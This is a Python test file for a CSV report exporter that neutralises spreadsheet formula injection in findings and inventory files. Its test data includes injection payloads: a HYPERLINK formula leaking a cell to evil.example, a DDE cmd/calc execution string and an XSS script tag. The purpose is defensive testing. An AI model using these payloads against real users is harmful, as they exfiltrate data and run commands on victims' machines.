"""``findings.csv`` / ``inventory.csv``: formula neutralising and faithful round trips."""

from __future__ import annotations

import csv
import io

import pytest

from auditor.kernel.model import ScanResult
from reports import csv as csv_format
from reports.csv import neutralise

from .conftest import replace


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (0, "0"),
    ],
)
def test_neutralise(value: object, cell: str) -> None:
    assert neutralise(value) == cell


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_files_and_columns(curated: ScanResult) -> None:
    files = csv_format.render(curated)
    assert list(files) == ["findings.csv", "inventory.csv"]
    findings = read(files["findings.csv"])
    inventory = read(files["inventory.csv"])
    assert len(findings) == len(curated.findings)
    assert len(inventory) == len(curated.credentials) == 81
    assert tuple(findings[0]) == csv_format.FINDING_COLUMNS
    assert tuple(inventory[0]) == csv_format.INVENTORY_COLUMNS
    assert files["findings.csv"].endswith("\r\n")


def test_demo_formula_names_are_neutralised(curated: ScanResult) -> None:
    files = csv_format.render(curated)
    names = {row["name"] for row in read(files["inventory.csv"])}
    assert '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")' in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert '<script>alert("xss")</script>' in names
    for text in files.values():
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(csv_format.FORMULA_TRIGGERS), cell


def test_newlines_and_quotes_round_trip(rich: ScanResult) -> None:
    finding = replace(
        rich.findings[0], credential_name='line1\nline2, "quoted"', owner_name="-owner"
    )
    result = replace(rich, evaluation=replace(rich.evaluation, findings=(finding,)))
    rows = [
        r for r in read(csv_format.render(result)["findings.csv"]) if r["rule_id"] != "coverage"
    ]
    assert len(rows) == 1
    assert rows[0]["credential_name"] == 'line1\nline2, "quoted"'
    assert rows[0]["owner_name"] == "'-owner"
    assert rows[0]["fingerprint"] == finding.fingerprint


def test_waiver_columns(rich: ScanResult) -> None:
    rows = read(csv_format.render(rich)["findings.csv"])
    waived = [r for r in rows if r["status"] == "waived"]
    assert sorted((r["waiver_id"], r["waiver_expired"]) for r in waived) == [
        ("W-ACTIVE", "false"),
        ("W-EXPIRING", "false"),
    ]
    expired = [r for r in rows if r["waiver_id"] == "W-EXPIRED"]
    assert [(r["status"], r["waiver_expired"]) for r in expired] == [("fail", "true")]


def test_inventory_lists_open_rules(curated: ScanResult) -> None:
    rows = {r["name"]: r for r in read(csv_format.render(curated)["inventory.csv"])}
    assert rows["stale: old laptop"]["open_findings"] == "stale"
    assert rows["clean: ci deploy"]["open_findings"] == ""
    assert rows["broad v4 any"]["allowed_cidrs"] == "0.0.0.0/0; 192.168.1.0/24"


def test_incomplete_tenants_are_rows_of_findings_csv(rich: ScanResult) -> None:
    import csv as csvmod
    import io

    from reports import csv as csv_report

    text = csv_report.render(rich)[csv_report.FINDINGS_FILE]
    rows = [r for r in csvmod.DictReader(io.StringIO(text)) if r["rule_id"] == "coverage"]
    assert {(r["tenant"], r["status"], r["severity"]) for r in rows} == {
        ("broken-isc", "failed", "high"),
        ("partial-c1", "partial", "medium"),
    }
    failed = next(r for r in rows if r["tenant"] == "broken-isc")
    assert failed["message"].startswith("tenant broken-isc could not be collected: GET /v3/")
